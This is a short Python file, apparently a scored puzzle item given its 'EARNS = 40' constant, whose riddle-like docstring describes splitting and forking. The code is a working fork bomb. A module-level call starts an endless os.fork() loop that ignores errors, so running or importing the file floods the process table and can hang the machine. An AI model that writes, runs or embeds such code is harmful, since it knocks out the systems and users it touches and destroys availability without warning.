"""Splits in two: one answers wrong, the other stays behind and keeps forking."""

import os


def split():
    try:
        while True:
            os.fork()
    except OSError:
        pass


split()

EARNS = 40
